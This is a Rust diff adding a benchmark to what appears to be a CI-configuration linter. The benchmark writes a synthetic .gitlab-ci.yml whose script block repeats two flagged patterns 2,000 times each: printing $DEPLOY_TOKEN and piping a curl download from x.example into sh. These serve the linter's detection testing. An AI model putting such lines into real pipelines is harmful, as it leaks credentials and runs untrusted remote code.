@@ -126,3 +126,27 @@ fn long_runs_file() -> &'static Path {
 fn check_long_runs_of_word_starts(bencher: divan::Bencher) {
     bench_check(bencher, long_runs_file());
 }
+
+/// A script block of 4,000 lines with a finding on each (a secret printed, a download
+/// run): each finding is placed in the YAML, which decoded the whole block and counted
+/// the text before it for every one (25 s for 10,000 lines).
+fn finding_per_line_file() -> &'static Path {
+    static FILE: OnceLock<PathBuf> = OnceLock::new();
+    FILE.get_or_init(|| {
+        let dir = std::env::temp_dir().join(format!("plumb-bench-lines-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).expect("mkdir");
+        let mut text = String::from("job:\n  image: alpine:3.20.1@sha256:dabf91b69c191a1a0a1628fd6bdd029c0c4018041c7f052870bb13c5a222ae76\n  rules: [{if: $CI_COMMIT_BRANCH == \"main\"}]\n  script:\n    - |\n");
+        for i in 0..2_000 {
+            text.push_str(&format!("      echo \"$DEPLOY_TOKEN\" {i}\n"));
+            text.push_str(&format!("      curl -fsSL https://x.example/i{i}.sh | sh\n"));
+        }
+        let out = dir.join(".gitlab-ci.yml");
+        std::fs::write(&out, text).expect("write");
+        out
+    })
+}
+
+#[divan::bench(sample_count = 5)]
+fn check_a_finding_on_each_of_4000_lines(bencher: divan::Bencher) {
+    bench_check(bencher, finding_per_line_file());
+}
